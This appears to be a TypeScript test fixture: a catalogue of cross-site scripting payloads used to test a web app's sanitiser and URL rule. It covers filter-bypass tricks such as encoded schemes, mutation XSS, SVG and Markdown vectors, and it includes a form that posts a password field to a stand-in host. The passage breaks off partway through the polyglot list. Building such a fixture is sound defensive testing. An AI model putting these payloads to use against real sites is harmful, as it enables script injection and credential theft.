/**
 * Hostile content for the XSS specs (xss.spec.ts, xss-settings.spec.ts) and the URL rule's tests
 * (schema/url.test.ts): every payload that would run script calls `__xss(id)` (the specs' init script
 * records the id; the app defines nothing of that name) or `alert(id)` (a dialog the specs catch), so an
 * execution is seen whatever the page and whoever wrote the payload.
 */

export type PayloadGroup =
  | "script"
  | "handler"
  | "url"
  | "entity"
  | "css"
  | "svg"
  | "frame"
  | "breaker"
  | "markdown"
  | "unicode"
  | "mutation"
  | "polyglot"
  | "key"

export interface XssPayload {
  /** What `__xss` / `alert` is called with when the payload runs. */
  readonly id: number
  readonly group: PayloadGroup
  /** What the payload tries. */
  readonly note: string
  readonly text: string
}

type Make = (id: number) => string
type Entry = readonly [group: PayloadGroup, note: string, make: Make]

const x = (id: number) => `__xss(${id})`
const a = (id: number) => `alert(${id})`
/** Base64 of an ASCII text (btoa exists in Node and in the browser). */
const b64 = (text: string) => btoa(text)
/** Every character as a decimal HTML entity (&#106;&#97;...). */
const decimalEntities = (text: string, pad = 0) =>
  [...text].map((c) => `&#${String(c.charCodeAt(0)).padStart(pad, "0")};`).join("")
/** Every character as a hexadecimal HTML entity (&#x6A;&#x61;...). */
const hexEntities = (text: string) => [...text].map((c) => `&#x${c.charCodeAt(0).toString(16)};`).join("")

const scriptTags: ReadonlyArray<Entry> = [
  ["script", "plain script element", (n) => `<script>${x(n)}</script>`],
  ["script", "upper-case tag", (n) => `<SCRIPT>${x(n)}</SCRIPT>`],
  ["script", "mixed-case tag", (n) => `<ScRiPt>${x(n)}</sCrIpT>`],
  ["script", "type attribute", (n) => `<script type="text/javascript">${x(n)}</script>`],
  ["script", "module script", (n) => `<script type=module>${x(n)}</script>`],
  ["script", "alert in a script", (n) => `<script>${a(n)}</script>`],
  ["script", "src from a data: URL", (n) => `<script src="data:text/javascript,${x(n)}"></script>`],
  ["script", "unquoted data: src", (n) => `<script src=data:,${x(n)}></script>`],
  ["script", "split tag that a naive filter rejoins", (n) => `<scr<script>ipt>${x(n)}</scr</script>ipt>`],
  ["script", "newline before >", (n) => `<script\n>${x(n)}</script\n>`],
  ["script", "tab before >", (n) => `<script\t>${x(n)}</script\t>`],
  ["script", "slash attribute", (n) => `<script/xss>${x(n)}</script>`],
  ["script", "double <", (n) => `<<script>${x(n)};//<</script>`],
  ["script", "unclosed script with a comment", (n) => `<script>${x(n)}<!--`],
  ["script", "closes a script then opens one", (n) => `</script><script>${x(n)}</script>`],
  ["script", "breaks out of a double-quoted attribute", (n) => `"><script>${x(n)}</script>`],
  ["script", "breaks out of a single-quoted attribute", (n) => `'><script>${x(n)}</script>`],
  ["script", "breaks out of a textarea", (n) => `</textarea><script>${x(n)}</script>`],
  ["script", "breaks out of the title", (n) => `</title><script>${x(n)}</script>`],
  ["script", "breaks out of a style element", (n) => `</style><script>${x(n)}</script>`],
  ["script", "eval of a split name", (n) => `<script>eval('__x'+'ss(${n})')</script>`],
  ["script", "setTimeout with a string", (n) => `<script>setTimeout("${x(n)}")</script>`],
  ["script", "window property call", (n) => `<script>window['__xss'](${n})</script>`],
  ["script", "marker as a callback", (n) => `<script>[${n}].map(__xss)</script>`],
  ["script", "comment hides a close tag", (n) => `<script>/*</script><script>*/${x(n)}</script>`],
  ["script", "script in a noscript", (n) => `<noscript><script>${x(n)}</script></noscript>`],
]

const handlers: ReadonlyArray<Entry> = [
  ["handler", "img onerror", (n) => `<img src=x onerror=${x(n)}>`],
  ["handler", "img onerror, upper case", (n) => `<IMG SRC=x ONERROR=${x(n)}>`],
  ["handler", "img onerror, double quotes", (n) => `<img src="x" onerror="${x(n)}">`],
  ["handler", "img onerror, single quotes", (n) => `<img src='x' onerror='${x(n)}'>`],
  ["handler", "img with slashes instead of spaces", (n) => `<img/src=x/onerror=${x(n)}>`],
  ["handler", "newline before =", (n) => `<img src=x onerror\n=${x(n)}>`],
  ["handler", "img onerror alert", (n) => `<img src=x onerror=${a(n)}>`],
  ["handler", "img without a src value", (n) => `<img src onerror=${x(n)}>`],
  ["handler", "entity-encoded handler body", (n) => `<img src=x onerror=&#95;&#95;xss(${n})>`],
  ["handler", "JS unicode escape in the handler", (n) => `<img src=x onerror=\\u005f_xss(${n})>`],
  ["handler", "img onload of a real picture", (n) => `<img src=/demo/fallback-employee.svg onload=${x(n)}>`],
  ["handler", "img unclosed", (n) => `<img src=x onerror=${x(n)}//`],
  ["handler", "backtick-quoted src", (n) => `<img src=\`x\` onerror=${x(n)}>`],
  ["handler", "image alias of img", (n) => `<image src=x onerror=${x(n)}>`],
  ["handler", "window.-qualified marker", (n) => `<img src=x onerror=window.__xss(${n})>`],
  ["handler", "marker through top", (n) => `<img src=x onerror=top.__xss(${n})>`],
  [
    "handler",
    "marker through ownerDocument",
    (n) => `<img src=x onerror=this.ownerDocument.defaultView.__xss(${n})>`,
  ],
  ["handler", "svg onload", (n) => `<svg onload=${x(n)}>`],
  ["handler", "svg/onload", (n) => `<svg/onload=${x(n)}>`],
  ["handler", "svg onload alert unclosed", (n) => `<svg onload=${a(n)}//`],
  ["handler", "svg g onload", (n) => `<svg><g onload=${x(n)}></g></svg>`],
  ["handler", "body onload", (n) => `<body onload=${x(n)}>`],
  ["handler", "body onpageshow", (n) => `<body onpageshow=${x(n)}>`],
  ["handler", "body onfocus", (n) => `<body onfocus=${x(n)}>`],
  ["handler", "body onresize", (n) => `<body onresize=${x(n)}>`],
  ["handler", "iframe onload", (n) => `<iframe onload=${x(n)}></iframe>`],
  ["handler", "iframe src onload", (n) => `<iframe src=/about onload=${x(n)}></iframe>`],
  ["handler", "details ontoggle", (n) => `<details open ontoggle=${x(n)}>`],
  ["handler", "details ontoggle with slashes", (n) => `<details/open/ontoggle=${a(n)}>`],
  ["handler", "video onerror", (n) => `<video src=x onerror=${x(n)}></video>`],
  ["handler", "video source onerror", (n) => `<video><source onerror=${x(n)}></video>`],
  ["handler", "audio onerror", (n) => `<audio src=x onerror=${x(n)}></audio>`],
  ["handler", "input autofocus onfocus", (n) => `<input autofocus onfocus=${x(n)}>`],
  ["handler", "select autofocus onfocus", (n) => `<select autofocus onfocus=${x(n)}></select>`],
  ["handler", "textarea autofocus onfocus", (n) => `<textarea autofocus onfocus=${x(n)}></textarea>`],
  ["handler", "keygen autofocus onfocus", (n) => `<keygen autofocus onfocus=${x(n)}>`],
  ["handler", "contenteditable autofocus", (n) => `<div contenteditable autofocus onfocus=${x(n)}>x</div>`],
  ["handler", "button autofocus onfocus", (n) => `<button autofocus onfocus=${x(n)}>x</button>`],
  [
    "handler",
    "onblur when a second autofocus wins",
    (n) => `<input onblur=${x(n)} autofocus><input autofocus>`,
  ],
  ["handler", "marquee onstart", (n) => `<marquee onstart=${x(n)}>x</marquee>`],
  ["handler", "object onerror", (n) => `<object data=x onerror=${x(n)}></object>`],
  ["handler", "style onload", (n) => `<style onload=${x(n)}></style>`],
  ["handler", "link onerror", (n) => `<link rel=stylesheet href=x onerror=${x(n)}>`],
  [
    "handler",
    "full-page mouseover layer",
    (n) => `<div onmouseover=${x(n)} style="position:fixed;inset:0">x</div>`,
  ],
  ["handler", "onclick on an unknown tag", (n) => `<x onclick=${x(n)}>click me</x>`],
  ["handler", "input type=image onerror", (n) => `<input type=image src=x onerror=${x(n)}>`],
  ["handler", "attribute injection into a quoted alt", (n) => `x" onerror="${x(n)}" alt="`],
  ["handler", "attribute injection with single quote", (n) => `x' onmouseover='${x(n)}' y='`],
  ["handler", "svg animate onbegin", (n) => `<svg><animate onbegin=${x(n)} attributeName=x dur=1s>`],
  ["handler", "svg discard onbegin", (n) => `<svg><discard onbegin=${x(n)}>`],
  [
    "handler",
    "onanimationstart with a CSS animation",
    (n) => `<style>@keyframes k{}</style><b style=animation-name:k onanimationstart=${x(n)}>x</b>`,
  ],
]

const urls: ReadonlyArray<Entry> = [
  ["url", "javascript: URL", (n) => `javascript:${x(n)}`],
  ["url", "upper-case scheme", (n) => `JAVASCRIPT:${x(n)}`],
  ["url", "mixed-case scheme", (n) => `JaVaScRiPt:${x(n)}`],
  ["url", "leading space", (n) => ` javascript:${x(n)}`],
  ["url", "leading tab", (n) => `\tjavascript:${x(n)}`],
  ["url", "tab inside the scheme", (n) => `java\tscript:${x(n)}`],
  ["url", "newline inside the scheme", (n) => `java\nscript:${x(n)}`],
  ["url", "carriage return inside the scheme", (n) => `java\rscript:${x(n)}`],
  ["url", "leading NUL", (n) => `\u0000javascript:${x(n)}`],
  ["url", "NUL inside the scheme", (n) => `java\u0000script:${x(n)}`],
  ["url", "leading control character", (n) => `\u0001javascript:${x(n)}`],
  ["url", "tab before the colon", (n) => `javascript\t:${x(n)}`],
  ["url", "alert via javascript: void", (n) => `javascript:void(${a(n)})`],
  ["url", "comment and newline", (n) => `javascript://comment%0A${x(n)}`],
  ["url", "percent-encoded body", (n) => `javascript:%5F%5Fxss(${n})`],
  ["url", "vbscript:", (n) => `vbscript:${x(n)}`],
  ["url", "VBScript: mixed case", (n) => `VBScript:${x(n)}`],
  ["url", "data:text/html with a script", (n) => `data:text/html,<script>${a(n)}</script>`],
  ["url", "data:text/html base64", (n) => `data:text/html;base64,${b64(`<script>${a(n)}</script>`)}`],
  ["url", "upper-case DATA:", (n) => `DATA:text/html,<script>${a(n)}</script>`],
  ["url", "data:image/svg+xml with onload", (n) => `data:image/svg+xml,<svg onload=${a(n)}>`],
  ["url", "data:text/javascript", (n) => `data:text/javascript,${x(n)}`],
  ["url", "data:text/html with a charset", (n) => `data:text/html;charset=utf-8,<img src=x onerror=${a(n)}>`],
  ["url", "protocol-relative URL", (n) => `//evil.example/${x(n)}`],
  ["url", "backslash after the first slash", (n) => `/\\evil.example/${x(n)}`],
  ["url", "two backslashes", (n) => `\\\\evil.example/${x(n)}`],
  ["url", "tab between the slashes", (n) => `/\t/evil.example/${x(n)}`],
  ["url", "http URL closing its attribute", (n) => `https://evil.example/"onmouseover="${x(n)}`],
  ["url", "http URL with a single quote", (n) => `https://evil.example/'onerror='${x(n)}`],
  ["url", "script in the query", (n) => `https://evil.example/?<script>${x(n)}</script>`],
  ["url", "img in the fragment", (n) => `https://evil.example/#"><img/src=x/onerror=${x(n)}>`],
  ["url", "path that breaks out of an attribute", (n) => `/"><svg/onload=${x(n)}>`],
  // The URL rule refuses quotes and angle brackets (above): the same breakouts percent-encoded, as a
  // link may carry them, are accepted and must stay inert where they are drawn.
  ["url", "attribute breakout, percent-encoded", (n) => `https://evil.example/%22onmouseover=%22${x(n)}`],
  [
    "url",
    "script in the query, percent-encoded",
    (n) => `https://evil.example/?%3Cscript%3E${x(n)}%3C/script%3E`,
  ],
  ["url", "path breakout, percent-encoded", (n) => `/%22%3E%3Csvg/onload=${x(n)}%3E`],
  ["url", "path that looks like a scheme", (n) => `/javascript:${x(n)}`],
  ["url", "path with an encoded newline", (n) => `/%0ajavascript:${x(n)}`],
  ["url", "javascript: after an http host", (n) => `http://evil.example/javascript:${x(n)}`],
  ["url", "backslash-at host confusion", (n) => `https://good.example\\@evil.example/${x(n)}`],
  ["url", "userinfo host confusion", (n) => `https://good.example@evil.example/${x(n)}`],
  ["url", "javascript: as an http host", (n) => `https://javascript:${x(n)}`],
  ["url", "line separator in a URL", (n) => `https://evil.example/\u2028${x(n)}`],
  ["url", "scheme without slashes", (n) => `https:evil.example/${x(n)}`],
  ["url", "path with a quote and handler", (n) => `/x'onmouseover='${x(n)}'`],
  ["url", "query that closes a tag", (n) => `/search?q=</a><img/src=x/onerror=${x(n)}>`],
]

const entities: ReadonlyArray<Entry> = [
  ["entity", "javascript: as decimal entities", (n) => `${decimalEntities("javascript:")}${x(n)}`],
  ["entity", "javascript: as padded decimal entities", (n) => `${decimalEntities("javascript:", 7)}${x(n)}`],
  ["entity", "javascript: as hex entities", (n) => `${hexEntities("javascript:")}${x(n)}`],
  ["entity", "tab entity inside the scheme", (n) => `java&#x09;script:${x(n)}`],
  ["entity", "newline entity inside the scheme", (n) => `jav&#x0A;ascript:${x(n)}`],
  ["entity", "&colon; named entity", (n) => `javascript&colon;${x(n)}`],
  ["entity", "&#58; colon", (n) => `javascript&#58;${x(n)}`],
  ["entity", "href with an entity-encoded j", (n) => `<a href="&#106;avascript:${x(n)}">x</a>`],
  ["entity", "href with an entity-encoded c", (n) => `<a href="javas&#99;ript:${x(n)}">x</a>`],
  ["entity", "href with leading spaces", (n) => `<a href="  javascript:${x(n)}">x</a>`],
  ["entity", "href with &colon;", (n) => `<a href=javascript&colon;${x(n)}>x</a>`],
  ["entity", "&lpar; and &rpar;", (n) => `<a href="jAvAsCrIpT&colon;alert&lpar;${n}&rpar;">x</a>`],
  ["entity", "iframe src javascript:", (n) => `<iframe src="javascript:parent.${x(n)}"></iframe>`],
  ["entity", "embed src javascript:", (n) => `<embed src="javascript:${x(n)}">`],
  ["entity", "object data javascript:", (n) => `<object data="javascript:${x(n)}"></object>`],
  [
    "entity",
    "form action javascript:",
    (n) => `<form action="javascript:${x(n)}"><input type=submit></form>`,
  ],
  [
    "entity",
    "button formaction javascript:",
    (n) => `<form><button formaction="javascript:${x(n)}">x</button></form>`,
  ],
  [
    "entity",
    "form that posts elsewhere",
    (n) => `<form action="https://evil.example/steal?${n}"><input name=password></form>`,
  ],
  ["entity", "href vbscript:", (n) => `<a href="vbscript:${x(n)}">x</a>`],
  ["entity", "href data:text/html", (n) => `<a href="data:text/html,<script>${a(n)}</script>">x</a>`],
  ["entity", "MathML href", (n) => `<math href="javascript:${x(n)}">x</math>`],
  [
    "entity",
    "MathML maction xlink:href",
    (n) => `<math><maction actiontype="statusline" xlink:href="javascript:${x(n)}">x</maction></math>`,
  ],
  [
    "entity",
    "meta refresh to javascript:",
    (n) => `<meta http-equiv="refresh" content="0;url=javascript:${x(n)}">`,
  ],
  [
    "entity",
    "meta refresh to data:",
    (n) => `<meta http-equiv=refresh content="0;url=data:text/html,<script>${a(n)}</script>">`,
  ],
  ["entity", "base href javascript:", (n) => `<base href="javascript:${x(n)}//"><a href=/x>x</a>`],
  ["entity", "base href elsewhere", (n) => `<base href="https://evil.example/${n}/">`],
  [
    "entity",
    "table background javascript:",
    (n) => `<table background="javascript:${x(n)}"><tr><td>x</td></tr></table>`,
  ],
  ["entity", "video poster javascript:", (n) => `<video poster=javascript:${x(n)}></video>`],
  ["entity", "isindex action", (n) => `<isindex action=javascript:${x(n)} type=image>`],
  ["entity", "double-escaped script", (n) => `&lt;script&gt;${x(n)}&lt;/script&gt;`],
  ["entity", "triple-escaped script", (n) => `&amp;lt;script&amp;gt;${x(n)}&amp;lt;/script&amp;gt;`],
  ["entity", "percent-encoded script", (n) => `%3Cscript%3E${x(n)}%3C/script%3E`],
]

const css: ReadonlyArray<Entry> = [
  ["css", "url(javascript:) background", (n) => `<div style="background:url(javascript:${x(n)})">x</div>`],
  ["css", "expression()", (n) => `<div style="width:expression(${x(n)})">x</div>`],
  ["css", "expression split by a comment", (n) => `<div style="xss:expr/**/ession(${x(n)})">x</div>`],
  ["css", "@import javascript:", (n) => `<style>@import 'javascript:${x(n)}';</style>`],
  [
    "css",
    "style rule with url(javascript:)",
    (n) => `<style>body{background:url("javascript:${x(n)}")}</style>`,
  ],
  ["css", "universal expression rule", (n) => `<style>*{x:expression(${x(n)})}</style>`],
  ["css", "stylesheet link to javascript:", (n) => `<link rel=stylesheet href="javascript:${x(n)}">`],
  ["css", "br style expression", (n) => `</br style=a:expression(${x(n)})>`],
  ["css", "CSS escape in url()", (n) => `<div style="background:url(\\6a avascript:${x(n)})">x</div>`],
]

const svg: ReadonlyArray<Entry> = [
  ["svg", "script inside svg", (n) => `<svg><script>${x(n)}</script></svg>`],
  ["svg", "svg script xlink:href data:", (n) => `<svg><script xlink:href="data:,${x(n)}"></script></svg>`],
  ["svg", "svg script href data:", (n) => `<svg><script href="data:,${x(n)}"/></svg>`],
  [
    "svg",
    "animate href to javascript:",
    (n) =>
      `<svg><a><animate attributeName=href values=javascript:${x(n)} /><text x=20 y=20>x</text></a></svg>`,
  ],
  [
    "svg",
    "set onmouseover",
    (n) => `<svg><rect width=99 height=99><set attributeName=onmouseover to=${x(n)} /></rect></svg>`,
  ],
  [
    "svg",
    "set href to javascript:",
    (n) => `<svg><a><set attributeName="href" to="javascript:${x(n)}"/><text x=20 y=20>x</text></a></svg>`,
  ],
  [
    "svg",
    "foreignObject img",
    (n) => `<svg><foreignObject><img src=x onerror=${x(n)}></foreignObject></svg>`,
  ],
  [
    "svg",
    "foreignObject iframe srcdoc",
    (n) =>
      `<svg><foreignObject><iframe srcdoc="<script>parent.${x(n)}</script>"></iframe></foreignObject></svg>`,
  ],
  [
    "svg",
    "use of a data: document",
    (n) =>
      `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${a(n)}'/></svg>#x"/></svg>`,
  ],
  ["svg", "svg image onerror", (n) => `<svg><image href=x onerror=${x(n)} /></svg>`],
  [
    "svg",
    "XML events handler",
    (n) =>
      `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${x(n)}</handler></svg>`,
  ],
  ["svg", "script in svg title", (n) => `<svg><title><script>${x(n)}</script></title></svg>`],
  ["svg", "img in svg desc", (n) => `<svg><desc><img src=x onerror=${x(n)}></desc></svg>`],
  ["svg", "namespaced svg onload", (n) => `<svg xmlns="http://www.w3.org/2000/svg" onload="${x(n)}"/>`],
  [
    "svg",
    "svg a xlink:href",
    (n) => `<svg><a xlink:href="javascript:${x(n)}"><text x="20" y="20">x</text></a></svg>`,
  ],
]

const frames: ReadonlyArray<Entry> = [
  ["frame", "iframe srcdoc script", (n) => `<iframe srcdoc="<script>parent.${x(n)}</script>"></iframe>`],
  [
    "frame",
    "iframe srcdoc with escaped markup",
    (n) => `<iframe srcdoc="&lt;script&gt;parent.${x(n)}&lt;/script&gt;"></iframe>`,
  ],
  ["frame", "iframe srcdoc img", (n) => `<iframe srcdoc="<img src=x onerror=parent.${x(n)}>"></iframe>`],
  ["frame", "iframe src data:", (n) => `<iframe src="data:text/html,<script>${a(n)}</script>"></iframe>`],
  ["frame", "iframe src javascript: alert", (n) => `<iframe src=javascript:${a(n)}></iframe>`],
  ["frame", "frameset onload", (n) => `<frameset onload=${x(n)}>`],
  [
    "frame",
    "object data: document",
    (n) => `<object data="data:text/html,<script>${a(n)}</script>"></object>`,
  ],
  ["frame", "embed data: document", (n) => `<embed src="data:text/html,<script>${a(n)}</script>">`],
]

const breakers: ReadonlyArray<Entry> = [
  ["breaker", "ends an inline JSON script", (n) => `</script><img src=x onerror=${x(n)}>`],
  ["breaker", "line and paragraph separators", (n) => `\u2028${x(n)}\u2029</script><script>${x(n)}</script>`],
  ["breaker", "ends a template element", (n) => `</template><img src=x onerror=${x(n)}>`],
  ["breaker", "opens an HTML comment", (n) => `<!--<img src="--><img src=x onerror=${x(n)}//">`],
  ["breaker", "closes an HTML comment", (n) => `--><img src=x onerror=${x(n)}>`],
  ["breaker", "CDATA section", (n) => `<![CDATA[<script>${x(n)}</script>]]>`],
  ["breaker", "closes a JSON object", (n) => `"}]});${x(n)};//`],
  ["breaker", "closes a single-quoted JS string", (n) => `'};${x(n)};//`],
  ["breaker", "template literal substitution", (n) => `\${${x(n)}}`],
  ["breaker", "template literal break-out", (n) => `\`+${x(n)}+\``],
  ["breaker", "Angular-style template injection", (n) => `{{constructor.constructor('${x(n)}')()}}`],
  ["breaker", "mustache expression", (n) => `{{${x(n)}}}`],
  ["breaker", "Ruby/Pug interpolation", (n) => `#{${x(n)}}`],
  ["breaker", "ERB tag", (n) => `<%= ${x(n)} %>`],
  ["breaker", "escaped quote in JS", (n) => `\\"-${x(n)}-\\"`],
  ["breaker", "closes a noscript", (n) => `</noscript><img src=x onerror=${x(n)}>`],
  ["breaker", "JS hex escapes of <script>", (n) => `\\x3cscript\\x3e${x(n)}\\x3c/script\\x3e`],
  ["breaker", "JSON unicode escapes of <script>", (n) => `\\u003cscript\\u003e${x(n)}\\u003c/script\\u003e`],
  ["breaker", "quoted script close inside JSON", (n) => `"</script><script>${x(n)}</script>"`],
  ["breaker", "unclosed comment start", (n) => `<!--${x(n)}`],
]

const markdown: ReadonlyArray<Entry> = [
  ["markdown", "link to javascript:", (n) => `[click](javascript:${x(n)})`],
  ["markdown", "link to upper-case JAVASCRIPT:", (n) => `[click](JAVASCRIPT:${x(n)})`],
  ["markdown", "link with an entity colon", (n) => `[click](javascript&#58;${x(n)})`],
  ["markdown", "link with a hex entity j", (n) => `[click](&#x6A;avascript:${x(n)})`],
  ["markdown", "link in angle brackets", (n) => `[click](<javascript:${x(n)}>)`],
  ["markdown", "link with spaces around", (n) => `[click]( javascript:${x(n)} )`],
  ["markdown", "link with a title", (n) => `[click](javascript:${x(n)} "title")`],
  ["markdown", "image with a javascript: source", (n) => `![img](javascript:${x(n)})`],
  ["markdown", "image source closing its attribute", (n) => `![x](https://x.example/x.png"onerror="${x(n)})`],
  ["markdown", "link closing its href", (n) => `[x](https://x.example/"onmouseover="${x(n)})`],
  ["markdown", "reference link to javascript:", (n) => `[x][ref${n}]\n\n[ref${n}]: javascript:${x(n)}`],
  [
    "markdown",
    "reference definition with a title",
    (n) => `[ref-t${n}]: javascript:${x(n)} "t"\n\n[y][ref-t${n}]`,
  ],
  ["markdown", "reference image", (n) => `![x][img${n}]\n\n[img${n}]: javascript:${x(n)}`],
  ["markdown", "autolink javascript:", (n) => `<javascript:${x(n)}>`],
  ["markdown", "autolink mixed-case alert", (n) => `<JavaScript:${a(n)}>`],
  ["markdown", "autolink vbscript:", (n) => `<vbscript:${x(n)}>`],
  [
    "markdown",
    "link to a data: document",
    (n) => `[a](data:text/html;base64,${b64(`<script>${a(n)}</script>`)})`,
  ],
  ["markdown", "nested brackets", (n) => `[[nested](javascript:${x(n)})](https://x.example)`],
  ["markdown", "backslash before the scheme", (n) => `[a](\\javascript:${x(n)})`],
  ["markdown", "escaped colon", (n) => `[a](javascript\\:${x(n)})`],
  ["markdown", "escaped letter in the scheme", (n) => `[a](j\\avascript:${x(n)})`],
  ["markdown", "escaped script tag", (n) => `\\<script>${x(n)}\\</script>`],
  ["markdown", "raw HTML block with a script", (n) => `<div>\n<script>${x(n)}</script>\n</div>`],
  [
    "markdown",
    "raw details block around Markdown",
    (n) => `<details open ontoggle=${x(n)}>\n\n**md**\n\n</details>`,
  ],
  ["markdown", "inline HTML inside emphasis", (n) => `*<img src=x onerror=${x(n)}>*`],
  ["markdown", "script in a code span", (n) => `\`<script>${x(n)}</script>\``],
  ["markdown", "script in a fenced block", (n) => `\`\`\`html\n<script>${x(n)}</script>\n\`\`\``],
  ["markdown", "raw anchor with javascript:", (n) => `<a href="javascript:${x(n)}">raw</a>`],
  ["markdown", "fragment link with a handler", (n) => `[x](#"onclick="${x(n)})`],
  ["markdown", "angle destination with a handler", (n) => `[x](</" onclick="${x(n)}>)`],
  [
    "markdown",
    "image of a data: svg",
    (n) =>
      `![x](data:image/svg+xml;base64,${b64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${a(n)}"/>`)})`,
  ],
  ["markdown", "percent-encoded javascript: body", (n) => `[x](javascript:%5F%5Fxss(${n}))`],
  [
    "markdown",
    "entity-encoded script in link text",
    (n) => `[&#x3C;script&#x3E;${x(n)}&#x3C;/script&#x3E;](https://x.example)`,
  ],
  ["markdown", "decimal entities of a script", (n) => `&#60;script&#62;${x(n)}&#60;/script&#62;`],
  ["markdown", "link with &colon;", (n) => `[x](javascript&colon;${x(n)})`],
  ["markdown", "newline entity in the scheme", (n) => `[x](jav&#x0A;ascript:${x(n)})`],
  ["markdown", "raw img block", (n) => `<img src="x" onerror="${x(n)}">`],
  ["markdown", "raw iframe block", (n) => `<iframe src="javascript:parent.${x(n)}"></iframe>`],
  [
    "markdown",
    "reference definition in angle brackets",
    (n) => `[z][ang${n}]\n\n[ang${n}]: <javascript:${x(n)}>`,
  ],
  ["markdown", "heading holding a script", (n) => `# <script>${x(n)}</script>`],
  ["markdown", "blockquote holding an img", (n) => `> <img src=x onerror=${x(n)}>`],
  ["markdown", "list item holding an svg", (n) => `- <svg onload=${x(n)}>`],
  ["markdown", "link text with a raw img", (n) => `[<img src=x onerror=${x(n)}>](https://x.example)`],
  ["markdown", "mailto with a script", (n) => `[m](mailto:a@x.example?body=<script>${x(n)}</script>)`],
]

const unicode: ReadonlyArray<Entry> = [
  ["unicode", "right-to-left override before a script", (n) => `\u202E<script>${x(n)}</script>`],
  ["unicode", "right-to-left override reversing a scheme", (n) => `\u202E)${n}(ssx__:tpircsavaj`],
  ["unicode", "homoglyph modifier j", (n) => `ʲavascript:${x(n)}`],
  ["unicode", "full-width javascript:", (n) => `ｊａｖａｓｃｒｉｐｔ：${x(n)}`],
  ["unicode", "full-width script tag", (n) => `＜script＞${x(n)}＜/script＞`],
  ["unicode", "full-width img tag", (n) => `＜img src=x onerror=${x(n)}＞`],
  ["unicode", "full-width quotes breaking out", (n) => `＂＞＜script＞${x(n)}＜/script＞`],
  ["unicode", "zero-width space in the scheme", (n) => `java\u200Bscript:${x(n)}`],
  ["unicode", "zero-width joiner in the scheme", (n) => `java\u200Dscript:${x(n)}`],
  ["unicode", "zero-width joiner in a tag name", (n) => `<scr\u200Dipt>${x(n)}</script>`],
  ["unicode", "byte-order mark before the scheme", (n) => `\uFEFFjavascript:${x(n)}`],
  ["unicode", "NUL at the end of a tag", (n) => `<img src=x onerror=${x(n)}\u0000>`],
  ["unicode", "NUL inside a tag name", (n) => `<scr\u0000ipt>${x(n)}</scr\u0000ipt>`],
  ["unicode", "NUL before a script", (n) => `\u0000<script>${x(n)}</script>`],
  ["unicode", "NUL instead of a space", (n) => `<img src=x\u0000onerror=${x(n)}>`],
  ["unicode", "line separator before a script", (n) => `\u2028<script>${x(n)}</script>`],
  ["unicode", "dotless i in img", (n) => `<\u0131mg src=x onerror=${x(n)}>`],
  ["unicode", "long s upper-cases to SCRIPT", (n) => `<\u017Fcript>${x(n)}</\u017Fcript>`],
  ["unicode", "dotted capital I in IMG", (n) => `<\u0130MG src=x onerror=${x(n)}>`],
  ["unicode", "JS escape in a script body", (n) => `<script>\\u0061lert(${n})</script>`],
  ["unicode", "JS escape in a handler", (n) => `<img src=x onerror=\\u0061lert(${n})>`],
  ["unicode", "lone surrogate before a script", (n) => `\uD800<script>${x(n)}</script>`],
  ["unicode", "combining mark inside the tag", (n) => `<s\u0338cript>${x(n)}</script>`],
  ["unicode", "soft hyphen in the scheme", (n) => `java\u00ADscript:${x(n)}`],
  ["unicode", "ideographic space before the scheme", (n) => `\u3000javascript:${x(n)}`],
  ["unicode", "non-breaking space in an img", (n) => `<img\u00A0src=x\u00A0onerror=${x(n)}>`],
  ["unicode", "Chinese text around a script", (n) => `数字员工<script>${x(n)}</script>团队`],
]

const mutations: ReadonlyArray<Entry> = [
  ["mutation", "noscript title mXSS", (n) => `<noscript><p title="</noscript><img src=x onerror=${x(n)}>">`],
  [
    "mutation",
    "math mglyph style mXSS",
    (n) => `<math><mtext><table><mglyph><style><img src=x onerror=${x(n)}>`,
  ],
  [
    "mutation",
    "math mglyph style comment mXSS",
    (n) =>
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=${x(n)}&gt;">`,
  ],
  ["mutation", "svg p style mXSS", (n) => `<svg></p><style><a id="</style><img src=1 onerror=${x(n)}>">`],
  [
    "mutation",
    "nested form mXSS",
    (n) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${x(n)}>`,
  ],
  ["mutation", "svg style holding an img", (n) => `<svg><style><img src=x onerror=${x(n)}></style></svg>`],
  ["mutation", "math style holding an img", (n) => `<math><style><img src=x onerror=${x(n)}></style></math>`],
  ["mutation", "xmp title mXSS", (n) => `<xmp><p title="</xmp><img src=x onerror=${x(n)}>">`],
  [
    "mutation",
    "noembed title mXSS",
    (n) => `<noembed><img title="</noembed><img src=x onerror=${x(n)}>"></noembed>`,
  ],
  ["mutation", "noframes title mXSS", (n) => `<noframes><p title="</noframes><img src=x onerror=${x(n)}>">`],
  ["mutation", "iframe content mXSS", (n) => `<iframe><p title="</iframe><img src=x onerror=${x(n)}>">`],
  [
    "mutation",
    "textarea content mXSS",
    (n) => `<textarea><p title="</textarea><img src=x onerror=${x(n)}>">`,
  ],
  ["mutation", "title content mXSS", (n) => `<title><p title="</title><img src=x onerror=${x(n)}>">`],
  ["mutation", "style content mXSS", (n) => `<style><p title="</style><img src=x onerror=${x(n)}>">`],
  ["mutation", "template holding an img", (n) => `<template><img src=x onerror=${x(n)}></template>`],
  ["mutation", "template holding a script", (n) => `<template><script>${x(n)}</script></template>`],
  [
    "mutation",
    "template inside select",
    (n) => `<select><template><img src=x onerror=${x(n)}></template></select>`,
  ],
  [
    "mutation",
    "svg foreignObject in a table cell",
    (n) => `<table><td><svg><foreignObject><img src=x onerror=${x(n)}>`,
  ],
  ["mutation", "svg p style", (n) => `<svg><p><style><img src=x onerror=${x(n)}>`],
  [
    "mutation",
    "control character before javascript: in href",
    (n) => `<a href="\u0001javascript:${x(n)}">x</a>`,
  ],
  ["mutation", "empty comment <!-->", (n) => `<!--><img src=x onerror=${x(n)}>-->`],
  ["mutation", "comment <!--->", (n) => `<!---><img src=x onerror=${x(n)}>-->`],
  ["mutation", "processing instruction", (n) => `<? foo="><script>${x(n)}</script>">`],
  ["mutation", "bogus end tag with attributes", (n) => `</x title="><img src=x onerror=${x(n)}>">`],
]

const polyglots: ReadonlyArray<Entry> = [
  [
    "polyglot",
    "0xsobky polyglot",
    (n) =>
